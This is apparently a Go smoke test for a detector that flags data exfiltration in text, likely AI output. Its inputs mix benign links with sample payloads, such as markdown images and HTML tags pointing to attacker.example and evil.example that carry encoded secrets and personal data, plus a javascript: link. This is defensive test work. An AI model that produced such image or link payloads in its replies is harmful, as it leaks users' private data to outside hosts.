package exfil

import (
	"context"
	"fmt"
	"testing"

	"github.com/rampartsec/rampart/detect"
)

func TestSmoke(t *testing.T) {
	d, _ := New(nil)
	for _, s := range []string{
		"Here is your summary ![loading](https://attacker.example/log.png?d=U2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIHRoZSB1c2VyIGlz) done",
		"See [the docs](https://docs.python.org/3/library/json.html) for more.",
		"![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
		"[![badge](https://img.shields.io/x.svg)](https://github.com/a/b)",
		"Visit <https://evil.example/c?q=John%20Smith%20lives%20at%2012%20Oak%20Street%20his%20ssn%20is%20123>",
		"<img src=\"https://x.example/p.gif?data=4a6f686e20536d697468206c6976657320617420313220","<img alt=\"cat\" src='https://a1b2c3d4e5f60718293a4b5c6d7e8f90.evil.example/x.png'>",
		"![a][logo]\n\n[logo]: https://evil.example/i.png?c=SGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA==\n",
		"[x](javascript:alert(1))",
		"https://maps.google.com/maps?q=Eiffel+Tower+Paris+France&hl=en&z=15",
		"[map](https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2944813,17z/data=!3m1!4b1!4m6!3m5!1s0x47e66e2964e34e2d:0x8ddca9ee380ef7e0!8m2!3d48.8583701!4d2.2944813!16zL20vMDJqODE)",
		"![x](https://my-bucket.s3.amazonaws.com/photo.jpg?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20130524%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20130524T000000Z&X-Amz-Expires=86400&X-Amz-SignedHeaders=host&X-Amz-Signature=aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404)",
		"<div style=\"background:url('http://10.0.0.5/t.png?k=ZXhmaWx0cmF0ZWQgZGF0YQ')\">hi</div>",
	} {
		hs, _ := d.Detect(context.Background(), detect.Input{Text: s})
		fmt.Printf("%q\n", s[:min(60, len(s))])
		for _, h := range hs {
			fmt.Printf("   %s %.3f [%d,%d) %q -> %q\n", h.Rule.ID, h.Score, h.Start, h.End, s[h.Start:min(h.End, h.Start+40)], Replacement(s, h))
		}
	}
}
